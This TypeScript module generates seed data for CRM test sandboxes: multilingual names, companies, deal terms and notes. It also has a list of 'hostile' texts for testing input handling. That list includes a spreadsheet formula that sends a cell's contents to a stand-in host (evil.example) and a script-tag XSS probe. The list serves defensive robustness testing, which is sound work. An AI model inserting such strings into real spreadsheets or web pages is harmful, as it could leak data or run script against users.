/**
 * Words for seeded data: plausible people, companies and deals of many scripts, and the texts that
 * hurt spreadsheets. Shared by the sandboxes, so that every CRM holds the same kinds of trouble.
 */
import type { Random } from './random';

export const firstNames = [
  ...['Maria', 'James', 'Zoë', 'François', 'Þórunn', 'Jürgen', 'Ana-Lucía', 'Siobhán', 'Ngọc'],
  ...['Oluwaseun', 'Łukasz', 'Çağla', 'Priya', '美咲', '伟', '지우', 'محمد', 'ליאור', 'Αλέξης'],
  ...['Olga', 'Noah', 'Amelia', 'Mateo', 'Ingrid', 'Tom', 'Grace', 'Henry', 'Isla'],
] as const;

export const lastNames = [
  ...['Rossi', "O'Brien", 'Nguyễn', 'Müller', 'García Márquez', 'van der Berg', 'Smith', 'Jones'],
  ...['Kowalczyk', 'Öztürk', 'Sharma', '山田', '王', '김', 'الخطيب', 'כהן', 'Παπαδόπουλος'],
  ...['Sørensen', 'Taylor', 'Walker', 'Martin', 'D’Angelo', 'Lee', 'Brown', 'Wilson'],
] as const;

export const companyNames = [
  ...['Acme', 'Northwind', 'Harbour Bridge', 'Bäckerei Schön', 'Café Olé', 'Zürich Analytics'],
  ...[
    '東京ソフト',
    '上海电子',
    '한빛',
    'شركة النور',
    'Ελιά',
    'Ålesund Marine',
    'Red Gum',
    'Bright',
  ],
  ...['Blue Wattle', 'Kookaburra', 'Southern Cross', 'Outback', 'Smith & Sons', 'A/B Testing'],
] as const;

export const companyForms = [
  'Pty Ltd',
  'GmbH',
  'S.A.',
  'Inc.',
  'AB',
  '株式会社',
  'Group',
  '',
] as const;

export const dealNouns = [
  ...['website', 'renewal', 'rollout', 'pilot', 'annual plan', 'migration', 'audit', 'training'],
  ...['🚀 launch', 'support contract', 'Erweiterung', 'réaménagement', '導入', 'توسعة', 'fit-out'],
] as const;

/** Texts that a spreadsheet takes for something else, or that a page takes for markup. */
export const hostileTexts = [
  '=IMPORTXML("http://evil.example/?"&A1)',
  '=1+1',
  '+61 400 000 000',
  '007',
  '@handle',
  '-5%',
  '1-2',
  "'quoted",
  '<script>alert(1)</script>',
  'TRUE',
  '1E5',
  '12/05/2026',
  '$1,000',
  '＝SUM(1,2)',
  '  two spaces before',
  'line one\nline two',
  'tab\there',
  '#N/A',
  'null',
  'e\u0301 is not é',
  '👩‍👩‍👧‍👦 family',
  '\u202Eright to left',
] as const;

/** Whether a text is or begins with one of these. */
export function startles(text: string): boolean {
  return hostileTexts.some((hostile) => text.startsWith(hostile));
}

const sentences = [
  'Called on Tuesday, wants a quote by the end of the month.',
  'Budget is approved; legal is still reading the contract.',
  'Prefers e-mail. Nicht vor 10 Uhr anrufen.',
  '次回の打ち合わせは来週です。',
  'الاجتماع القادم يوم الأحد.',
  'Competitor is in the race: price matters less than the date.',
] as const;

/** Notes of about the given number of characters, never fewer. */
export function longText(random: Random, lengthMin: number): string {
  const parts: string[] = [];
  for (let length = 0; length < lengthMin; ) {
    const sentence = random.pick(sentences);
    parts.push(sentence);
    length += sentence.length + 1;
  }
  return parts.join(random.chance(0.5) ? '\n' : ' ').padEnd(lengthMin, '.');
}
